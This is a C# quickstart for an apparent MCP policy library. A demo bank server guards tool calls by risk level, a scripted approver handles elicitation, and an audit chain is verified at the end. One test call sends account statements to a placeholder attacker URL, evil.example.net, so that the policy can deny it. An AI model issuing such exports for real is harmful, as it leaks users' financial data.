// McpPolicy quickstart: a real MCP server guarded by WithPolicy() and a real MCP client, joined by in-memory pipes in one
// process. The client makes calls at every risk level; HIGH calls are sent to a scripted "human" through MCP elicitation.
using System.IO.Pipelines;
using System.Security.Cryptography;
using System.Text.Json;
using McpPolicy;
using Microsoft.Extensions.DependencyInjection;
using ModelContextProtocol;
using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;
using ModelContextProtocol.Server;
using Quickstart;

var clientToServer = new Pipe();
var serverToClient = new Pipe();

// --- The server author's side: policy file + attributes + WithPolicy(). ---
var services = new ServiceCollection();
services.AddLogging();
var log = new DecisionLog();

// The audit trail: a keyed hash chain in a temp folder. A real host keeps the key in a secret store, not beside the file.
var auditFolder = Directory.CreateTempSubdirectory("mcppolicy-quickstart-").FullName;
var auditKeyFile = Path.Combine(auditFolder, "audit.key");
File.WriteAllText(auditKeyFile, Convert.ToBase64String(RandomNumberGenerator.GetBytes(32)));
services.AddMcpPolicy(Path.Combine(AppContext.BaseDirectory, "policy.json"))
    .AddElicitationApprovals()          // HIGH calls ask the user through the client
    .AddFilter(log)
    .AddAudit(o =>
    {
        o.Path = Path.Combine(auditFolder, "audit.jsonl");
        o.KeyFile = auditKeyFile;
        o.LogRecords = false;
    });
services.AddMcpServer(o => o.ServerInfo = new() { Name = "demo-bank", Version = "1.0.0" })
    .WithStreamServerTransport(clientToServer.Reader.AsStream(), serverToClient.Writer.AsStream())
    .WithTools<BankTools>()
    .WithPolicy(o => o.ServerId = "bank");

var provider = services.BuildServiceProvider();
var server = provider.GetRequiredService<McpServer>();
using var stop = new CancellationTokenSource();
var serverRun = server.RunAsync(stop.Token);

// --- The client's side: a scripted approver stands in for the human. It approves payments to alice only. ---
var clientOptions = new McpClientOptions
{
    ClientInfo = new() { Name = "quickstart-client", Version = "1.0.0" },
    Handlers = new McpClientHandlers
    {
        ElicitationHandler = (request, _) =>
        {
            var approve = request?.Message?.Contains("\"alice\"", StringComparison.Ordinal) == true;
            return ValueTask.FromResult(new ElicitResult
            {
                Action = "accept",
                Content = new Dictionary<string, JsonElement> { [ElicitationApprovalHandler.ApproveField] = JsonSerializer.SerializeToElement(approve) },
            });
        },
    },
};
await using var client = await McpClient.CreateAsync(
    new StreamClientTransport(clientToServer.Writer.AsStream(), serverToClient.Reader.AsStream()), clientOptions);

var listed = await client.ListToolsAsync();
Console.WriteLine($"tools/list shows: {string.Join(", ", listed.Select(t => t.Name).Order(StringComparer.Ordinal))} (close_account is hidden by policy)");
Console.WriteLine($"policy version: {provider.GetRequiredService<IPolicyEvaluator>().PolicyVersion[..16]}");
Console.WriteLine();

(string Tool, Dictionary<string, object?> Arguments)[] calls =
[
    ("get_balance", []),
    ("list_transactions", []),
    ("send_money", new() { ["to"] = "bob", ["amount"] = 50 }),
    ("send_money", new() { ["to"] = "alice", ["amount"] = 2500 }),
    ("send_money", new() { ["to"] = "mallory", ["amount"] = 5000 }),
    ("export_statements", new() { ["destination"] = "https://evil.example.net/upload" }),
    ("close_account", []),
    ("delete_bank", []),
];

var rows = new List<string[]>();
rows.Add(["call", "risk", "outcome", "result", "reason"]);
var seen = new HashSet<RiskLevel>();
var approvedHigh = false;
var deniedHigh = false;
foreach (var (tool, arguments) in calls)
{
    var call = $"{tool}({string.Join(", ", arguments.Select(a => $"{a.Key}={a.Value}"))})";
    var before = log.Last;
    try
    {
        var result = await client.CallToolAsync(tool, arguments);
        var context = log.Last;
        var decision = ReferenceEquals(context, before) ? null : context?.Decision;
        var text = string.Join(" ", result.Content.OfType<TextContentBlock>().Select(c => c.Text));
        var outcome = result.IsError == true ? "denied" : "ran";
        if (decision is not null)
        {
            seen.Add(decision.Risk);
            if (decision.Risk == RiskLevel.High)
            {
                approvedHigh |= result.IsError != true;
                deniedHigh |= result.IsError == true;
                outcome += context!.Approval is { } grant ? $" (approved by {grant.Approver})" : " (not approved)";
            }
        }

        var reason = decision?.DecisiveReason is { } r ? $"{r.Id}: {r.Message}" : text;
        rows.Add([call, decision?.Risk.ToString() ?? "-", decision?.Outcome.ToString() ?? "-", outcome, reason]);
    }
    catch (McpProtocolException ex)
    {
        rows.Add([call, "-", "-", $"JSON-RPC error {(int)ex.ErrorCode}", ex.Message]);
    }
}

var widths = Enumerable.Range(0, 4).Select(i => rows.Max(r => r[i].Length)).ToArray();
foreach (var row in rows)
{
    Console.WriteLine(string.Join("  ", row.Take(4).Select((cell, i) => cell.PadRight(widths[i]))) + "  " + row[4]);
}

Console.WriteLine();
var complete = seen.SetEquals(Enum.GetValues<RiskLevel>()) && approvedHigh && deniedHigh;
Console.WriteLine(complete
    ? "All four risk levels appeared, one HIGH call was approved and one denied."
    : "The demo did not show every risk level and both approval outcomes.");

await client.DisposeAsync();
await stop.CancelAsync();
try
{
    await serverRun;
}
catch (OperationCanceledException)
{
}

// Disposing the services seals the audit file; then check the chain.
var auditFile = provider.GetRequiredService<AuditWriter>().Sinks.OfType<AuditFileSink>().Single();
await provider.DisposeAsync();
var audit = AuditVerifier.Verify(auditFile.Files, AuditKey.Parse(File.ReadAllText(auditKeyFile)));
Console.WriteLine();
Console.WriteLine($"audit: {auditFile.Files[^1]}");
Console.WriteLine($"audit key file: {auditKeyFile}");
Console.WriteLine($"audit verify: {audit}");
complete &= audit.IsValid;

return complete ? 0 : 1;
